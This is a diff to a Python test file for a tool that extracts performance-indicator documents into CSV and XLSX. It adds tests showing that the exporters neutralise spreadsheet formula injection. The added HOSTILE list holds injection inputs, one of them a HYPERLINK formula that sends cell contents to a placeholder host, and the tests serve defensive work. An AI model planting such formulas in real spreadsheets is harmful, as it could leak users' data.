@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import subprocess
 from pathlib import Path
 
 import openpyxl
@@ -11,7 +12,9 @@ import pytest
 from conftest import FIXTURES, SEED
 
 import ekstrak
-from ekstrak.sheet import COLUMNS, csv_bytes, xlsx_bytes
+from ekstrak.formats.csvfile import csv_bytes
+from ekstrak.formats.xlsxfile import xlsx_bytes
+from inti.kolom import COLUMNS
 
 DOCUMENTS = [SEED, FIXTURES / "pk_pengadilan_satuan.txt", FIXTURES / "iku_dinas_landscape_layout.txt"]
 
@@ -56,7 +59,7 @@ def test_csv_opens_in_indonesian_excel():
     data = csv_bytes(ekstrak.extract(SEED))
     assert data.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
-    assert rows[0][: len(COLUMNS)] == COLUMNS
+    assert rows[0][: len(COLUMNS)] == list(COLUMNS)
     first = dict(zip(rows[0], rows[1], strict=True))
     assert first["nilai_target"] == "3,1" and first["target"] == "3,1 Indeks" and first["satuan"] == "Indeks"
     assert (first["polaritas"], first["realisasi"], first["keterangan"]) == ("", "", "")
@@ -77,7 +80,7 @@ def test_xlsx_is_styled_for_filling_in():
     assert book.sheetnames == ["Indikator", "Dokumen", "Anggaran"]
     sheet = book["Indikator"]
     header = [c.value for c in sheet[1]]
-    assert header[: len(COLUMNS)] == COLUMNS
+    assert header[: len(COLUMNS)] == list(COLUMNS)
     assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
     assert sheet.column_dimensions["E"].width >= 40
     assert sheet["E2"].alignment.wrap_text
@@ -111,7 +114,7 @@ def _sheet_with(tmp_path: Path, **changes) -> Path:
 def test_sheet_values_are_re_read_from_target_where_empty(tmp_path):
     doc = ekstrak.extract(_sheet_with(tmp_path, target="4,5 Indeks", nilai_target=None, satuan=None))
     assert doc.sasaran[0].indikator[0].target.to_dict() == {"teks": "4,5 Indeks", "nilai": 4.5, "satuan": "Indeks"}
-    assert doc.peringatan == []
+    assert doc.peringatan == ()
 
 
 def test_sheet_values_filled_in_are_kept_with_a_warning_where_they_disagree(tmp_path):
@@ -119,3 +122,70 @@ def test_sheet_values_filled_in_are_kept_with_a_warning_where_they_disagree(tmp_
     assert doc.sasaran[0].indikator[0].target.nilai == 3.5
     (warning,) = doc.peringatan
     assert "3,5" in warning.pesan and "3,1 Indeks" in warning.pesan and warning.baris == 2
+
+
+HOSTILE = [
+    '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=sudah berkutip",
+    "''@dua kutip",
+    "- Persentase dengan tanda hubung",
+]
+
+
+FOLDED = [" ".join(text.split()) for text in HOSTILE]  # sheets fold whitespace, as extraction does
+
+
+def _hostile_doc() -> ekstrak.Dokumen:
+    indikator = [ekstrak.Indikator(n, text, ekstrak.Target(text)) for n, text in enumerate(HOSTILE, start=1)]
+    sasaran = ekstrak.Sasaran(1, "=KELOMPOK()", "=SASARAN()", indikator)
+    return ekstrak.Dokumen("=JUDUL", "@instansi", 2024, [sasaran], [ekstrak.Anggaran("=1+1", "-5", -5)])
+
+
+def test_xlsx_text_is_never_a_formula_and_reads_back(tmp_path):
+    doc = _hostile_doc()
+    data = xlsx_bytes(doc)
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+    assert book["Indikator"]["E2"].value == HOSTILE[0]
+    assert book["Anggaran"]["C2"].value == -5 and book["Anggaran"]["C2"].data_type == "n"
+    back = _xlsx_roundtrip(doc, tmp_path)
+    assert [i.uraian for i in back.sasaran[0].indikator] == FOLDED
+    assert back.sasaran[0].uraian == "=SASARAN()" and back.judul == "=JUDUL"
+
+
+def test_xlsx_opened_by_libreoffice_shows_text_not_a_link(tmp_path):
+    path = tmp_path / "iku.xlsx"
+    path.write_bytes(xlsx_bytes(_hostile_doc()))
+    out = tmp_path / "csv"
+    subprocess.run(
+        ["soffice", f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", "csv", "--outdir",
+         str(out), str(path)],
+        check=True, capture_output=True, timeout=120,
+    )  # fmt: skip
+    shown = (out / "iku.csv").read_text(encoding="utf-8", errors="replace")
+    assert "HYPERLINK" in shown and "Klik" not in shown.replace('"Klik"', "")
+
+
+def test_csv_escapes_formula_starts_and_reads_them_back(tmp_path):
+    doc = _hostile_doc()
+    data = csv_bytes(doc).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(data), delimiter=";"))
+    header = rows[0]
+    texts = [row[header.index("indikator")] for row in rows[1:]]
+    assert all(not t or t[0] not in "=+-@\t\r" for t in texts)
+    assert texts[0] == "'" + HOSTILE[0] and texts[6] == "''=sudah berkutip"
+    assert rows[1][header.index("sasaran")] == "'=SASARAN()"
+    path = tmp_path / "iku.csv"
+    path.write_text(data, encoding="utf-8")
+    back = ekstrak.extract(path)
+    assert [i.uraian for i in back.sasaran[0].indikator] == FOLDED
+    assert [i.target.teks for i in back.sasaran[0].indikator] == FOLDED
+    assert back.sasaran[0].kelompok == "=KELOMPOK()"
